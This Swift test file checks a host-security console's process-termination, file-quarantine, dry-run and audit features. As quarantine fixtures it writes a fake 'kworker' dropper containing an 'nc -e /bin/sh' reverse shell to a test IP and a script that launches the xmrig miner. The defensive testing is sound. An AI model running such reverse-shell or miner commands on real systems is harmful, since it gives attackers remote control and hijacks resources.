@testable import App
import Foundation
import SQLKit
import TestSupport
import Testing
#if canImport(Glibc)
import Glibc
#endif

/// Manual host response from the console: terminate a process after its confirmation page,
/// quarantine a file and restore it; refusals (PID 1, SecMon's own files) change nothing; a dry
/// run moves nothing; every step audited.
@Suite("Host response pages", .timeLimit(.minutes(5)))
struct HostResponsePagesTests {
    static func audit(_ h: SecMonHarness, _ prefix: String) async throws -> [(String, String)] {
        try await (h.app.db as! any SQLDatabase).raw("SELECT action, after_value FROM audit_log WHERE action LIKE \(bind: prefix + "%") ORDER BY seq").all()
            .map { (try $0.decode(column: "action", as: String.self), try $0.decode(column: "after_value", as: String?.self) ?? "") }
    }

    @Test("terminate from the confirmation page; PID 1 is refused; all audited", arguments: TestDatabase.all)
    func terminate(db: TestDatabase) async throws {
        let sleeper = try ChildProcess(["/bin/sleep", "60"])
        defer { sleeper.stop() }
        try await SecMonHarness.with(db, adjust: { $0.terminateGraceMilliseconds = 3000 }) { h in
            let admin = try await h.loggedIn(as: .admin)
            let page = try await admin.get("/host/processes/\(sleeper.pid)/terminate")
            #expect(page.status == .ok && page.body.contains("Terminate PID \(sleeper.pid)") && page.body.contains("SIGTERM"))
            let ticks = try #require(page.body.firstMatch(of: /name="start_ticks" value="(\d+)"/)?.1)
            let done = try await admin.postForm("/host/processes/\(sleeper.pid)/terminate", ["start_ticks": String(ticks)])
            #expect(done.status == .ok && done.body.contains("ended") && done.body.contains("after SIGTERM"), "\(done.body.prefix(500))")
            #expect(sleeper.wait() == SIGTERM)
            // PID 1: the page says why, and a forced post is refused.
            let init1 = try await admin.get("/host/processes/1/terminate")
            #expect(init1.body.contains("will not terminate") || init1.body.contains("is not running"))
            let refused = try await admin.postForm("/host/processes/1/terminate", ["start_ticks": "1"])
            #expect(refused.status == .badRequest && refused.body.contains("init"))
            // Analysts may not.
            let analyst = try await h.loggedIn(as: .analyst)
            #expect(try await analyst.get("/host/processes/\(sleeper.pid)/terminate").status == .forbidden)
            let entries = try await Self.audit(h, "host.terminate")
            #expect(entries.count == 2 && entries[0].1.contains("after SIGTERM") && entries[1].1.hasPrefix("refused:"))
        }
    }

    @Test("quarantine and restore from the page; SecMon's own files are refused", arguments: TestDatabase.all)
    func quarantine(db: TestDatabase) async throws {
        let files = try TempFiles()
        let dropper = try files.write("kworker", "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\n")
        #expect(chmod(dropper, 0o755) == 0)
        try await SecMonHarness.with(db) { h in
            let admin = try await h.loggedIn(as: .admin)
            #expect(try await admin.get("/files/quarantine").body.contains("Nothing is in quarantine"))
            let moved = try await admin.postForm("/files/quarantine", ["path": dropper])
            #expect(moved.status == .ok && moved.body.contains("is in quarantine"), "\(moved.body.prefix(400))")
            #expect(!FileManager.default.fileExists(atPath: dropper))
            let id = try #require(moved.body.firstMatch(of: /action="\/files\/quarantine\/([0-9a-f-]+)\/restore"/)?.1)
            #expect(moved.body.contains(dropper) && moved.body.contains("755"))
            // Into SecMon's own data directory: refused.
            let own = try await admin.postForm("/files/quarantine", ["path": h.config.dataDirectory + "/secmon.sqlite"])
            #expect(own.status == .badRequest && own.body.contains("protected"))
            let restored = try await admin.postForm("/files/quarantine/\(id)/restore", [:])
            #expect(restored.status == .ok && restored.body.contains("is restored"))
            #expect(try String(contentsOfFile: dropper, encoding: .utf8).contains("nc -e"))
            var info = stat()
            #expect(lstat(dropper, &info) == 0 && info.st_mode & 0o777 == 0o755)
            let again = try await admin.postForm("/files/quarantine/\(id)/restore", [:])
            #expect(again.status == .notFound)
            // The console's allowlists: a path never quarantined, a process never terminated.
            let bad = try await admin.postForm("/files/quarantine/settings", ["processes": "", "paths": "relative/path"])
            #expect(bad.status == .badRequest && bad.body.contains("line 1") && bad.body.contains("absolute"))
            let saved = try await admin.postForm("/files/quarantine/settings", ["processes": "sleep  # lab timers", "paths": files.path + "/"])
            #expect(saved.status == .ok && saved.body.contains("Saved"))
            let kept = try await admin.postForm("/files/quarantine", ["path": dropper])
            #expect(kept.status == .badRequest && kept.body.contains("protected") && FileManager.default.fileExists(atPath: dropper))
            let sleeper = try ChildProcess(["/bin/sleep", "60"])
            defer { sleeper.stop() }
            let confirm = try await admin.get("/host/processes/\(sleeper.pid)/terminate")
            #expect(confirm.body.contains("will not terminate") && confirm.body.contains("allowlisted"))
            let entries = try await Self.audit(h, "file.")
            #expect(entries.map(\.0) == ["file.quarantine", "file.quarantine", "file.restore", "file.quarantine"])
            #expect(entries[1].1.hasPrefix("refused:"))
        }
    }

    @Test("with dry run on, quarantine checks and records, and moves nothing")
    func dryRun() async throws {
        let files = try TempFiles()
        let file = try files.write("suspect.bin", "x")
        try await SecMonHarness.with(.sqlite, adjust: { $0.responseDryRun = true }) { h in
            let admin = try await h.loggedIn(as: .admin)
            let page = try await admin.postForm("/files/quarantine", ["path": file])
            #expect(page.status == .ok && page.body.contains("Dry run"))
            #expect(FileManager.default.fileExists(atPath: file))
            #expect(try await Self.audit(h, "file.").first?.1.contains("dry run") == true)
        }
    }

    @Test("the API: score, terminate with the start time, quarantine and restore; refusals as problem documents")
    func api() async throws {
        let files = try TempFiles()
        let dropper = try files.write("miner", "#!/bin/sh\nxmrig --donate-level 1\n")
        let sleeper = try ChildProcess(["/bin/sleep", "60"])
        defer { sleeper.stop() }
        try await SecMonHarness.with(.sqlite, adjust: { $0.terminateGraceMilliseconds = 3000 }) { h in
            let token = try await APIv1Tests.token(h, .admin)
            let api = h.client()
            let headers = [("Authorization", "Bearer \(token)"), ("Content-Type", "application/json")]
            let score = try await api.send(.GET, "/api/v1/host/score", headers: headers)
            let level = try score.json()["level"] as? String
            #expect(score.status == .ok && level == "low")

            let ticks = try #require(h.app.secmon.hostResponse.terminator.target(sleeper.pid)?.startTicks)
            let wrong = try await api.send(.POST, "/api/v1/host/processes/\(sleeper.pid)/terminate", headers: headers, body: #"{"start_ticks":\#(ticks + 1)}"#)
            let wrongOutcome = try wrong.json()["outcome"] as? String
            #expect(wrong.status == .ok && wrongOutcome == "already_gone", "another start time is another process: nothing sent")
            let done = try await api.send(.POST, "/api/v1/host/processes/\(sleeper.pid)/terminate", headers: headers, body: #"{"start_ticks":\#(ticks)}"#)
            let outcome = try done.json()["outcome"] as? String
            #expect(done.status == .ok && outcome == "terminated")
            #expect(sleeper.wait() == SIGTERM)
            let initRefused = try await api.send(.POST, "/api/v1/host/processes/1/terminate", headers: headers, body: #"{"start_ticks":1}"#)
            #expect(initRefused.status == .badRequest && initRefused.headers.first(name: .contentType) == "application/problem+json")

            let moved = try await api.send(.POST, "/api/v1/files/quarantine", headers: headers, body: "{\"path\":\"\(dropper)\"}")
            #expect(moved.status == .created, "\(moved.body)")
            let id = try #require((try moved.json()["file"] as? [String: Any])?["id"] as? String)
            let list = try await api.send(.GET, "/api/v1/files/quarantine", headers: headers)
            #expect((try list.json()["files"] as? [[String: Any]])?.first?["path"] as? String == dropper)
            let restored = try await api.send(.POST, "/api/v1/files/quarantine/\(id)/restore", headers: headers)
            #expect(restored.status == .ok && FileManager.default.fileExists(atPath: dropper))
            let missing = try await api.send(.POST, "/api/v1/files/quarantine/\(id)/restore", headers: headers)
            #expect(missing.status == .notFound)
        }
    }
}
